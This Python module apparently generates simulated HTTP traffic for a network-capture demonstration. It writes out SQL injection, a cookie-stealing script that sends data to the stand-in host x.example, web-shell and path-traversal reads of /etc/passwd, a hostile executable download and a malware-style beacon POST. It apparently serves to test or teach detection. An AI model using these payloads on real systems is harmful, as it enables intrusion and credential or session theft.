"""Attacks in a URL, and downloads that should not be."""

from __future__ import annotations

from urllib.parse import quote

from capture_agent.demonstration.packets import Endpoint
from capture_agent.demonstration.payloads import hostile, http
from capture_agent.demonstration.scene import Scene

_INJECTION = "1' UNION SELECT username, password FROM users-- -"
_SCRIPT = "<script>document.location='https://x.example/?'+document.cookie</script>"


def _ask(
    scene: Scene, at: float, pair: tuple[Endpoint, Endpoint], asked: bytes, answered: bytes
) -> None:
    connection = scene.tcp(*pair, 80, at).open()
    scene.add(connection.ask(asked, answered).wait(0.2).close())


def inject_sql(scene: Scene, at: float, client: Endpoint, server: Endpoint) -> None:
    """Put SQL into a parameter."""
    asked = http.request("www.office.example", f"/item?id={quote(_INJECTION)}")
    _ask(scene, at, (client, server), asked, http.response(http.page("Item")))


def inject_script(scene: Scene, at: float, client: Endpoint, server: Endpoint) -> None:
    """Put JavaScript into a parameter."""
    asked = http.request("www.office.example", f"/search?q={quote(_SCRIPT)}")
    _ask(scene, at, (client, server), asked, http.response(http.page("Search")))


def inject_command(scene: Scene, at: float, client: Endpoint, server: Endpoint) -> None:
    """Ask a left-behind shell to run a command."""
    asked = http.request("www.office.example", f"/shell?{quote('cat /etc/passwd')}")
    _ask(scene, at, (client, server), asked, http.response(http.page("Shell")))


def climb(scene: Scene, at: float, client: Endpoint, server: Endpoint) -> None:
    """Climb out of the document root."""
    asked = http.request("www.office.example", "/../../../../etc/passwd")
    answer = http.response(http.page("Not found", 1_200), status="404 Not Found")
    _ask(scene, at, (client, server), asked, answer)


def download_program(scene: Scene, at: float, client: Endpoint, server: Endpoint) -> None:
    """Fetch a Windows program over HTTP."""
    asked = http.request("downloads.example.net", "/tools/setup.exe", agent=http.EDGE)
    answer = http.response(hostile.windows_program(), kind="application/x-msdownload")
    _ask(scene, at, (client, server), asked, answer)


def dial_address(scene: Scene, at: float, client: Endpoint, server: Endpoint) -> None:
    """Ask a web server by its bare address, as scripts and malware do."""
    host = f"[{server.address}]" if server.ip.version == 6 else server.address
    asked = http.request(host, "/gate.php", method="POST", agent="", body=b"id=7&os=linux")
    _ask(scene, at, (client, server), asked, http.response(b"ok\n", kind="text/plain"))
